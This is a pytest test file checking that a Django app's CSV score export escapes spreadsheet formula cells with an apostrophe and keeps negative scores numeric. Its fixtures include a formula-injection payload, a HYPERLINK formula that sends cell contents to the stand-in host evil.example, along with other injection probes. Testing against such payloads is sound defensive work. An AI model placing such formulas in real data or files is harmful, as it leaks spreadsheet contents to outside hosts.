"""`manage.py export_scores --format csv`: a file a spreadsheet opens without running any cell."""

import csv

import pytest
from django.core.management import call_command

from tests.matrix.helpers import AS_OF, cond, doc, fit, make_lead, publish

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def exported_csv(tmp_path) -> list[list[str]]:
    path = tmp_path / "scores.csv"
    call_command("rescore", "--as-of", AS_OF.isoformat())
    call_command("export_scores", "--format", "csv", "--output", str(path))
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_csv_export_escapes_formula_cells_and_keeps_negative_numbers(tmp_path):
    # Given leads whose CRM ids a spreadsheet would run as formulas (one of them also named so as
    # a company), scored by a model whose only matching criterion takes points away,
    publish(doc(slug="neg", criteria=[fit("competitor", cond("industry", "eq", "competitor"), -20)]))
    for external_id in (HYPERLINK, "+1+2", "-1+2", "@SUM(A1)", "\tTAB", "\rCR", "L-plain"):
        make_lead(external_id, company=HYPERLINK, industry="competitor")
    # when the scores are exported as CSV,
    header, *rows = exported_csv(tmp_path)
    # then every text cell a spreadsheet would evaluate starts with an apostrophe, as the pages' exports do,
    assert header[:2] == ["lead", "model"]
    assert sorted(row[0] for row in rows) == sorted(
        ["'\tTAB", "'\rCR", "'+1+2", "'-1+2", f"'{HYPERLINK}", "'@SUM(A1)", "L-plain"]
    )
    # and a negative score stays a number, not text (a number is never a formula).
    assert {row[header.index("score")] for row in rows} == {"-20.0"}
    assert {row[header.index("fit")] for row in rows} == {"-20.0"}
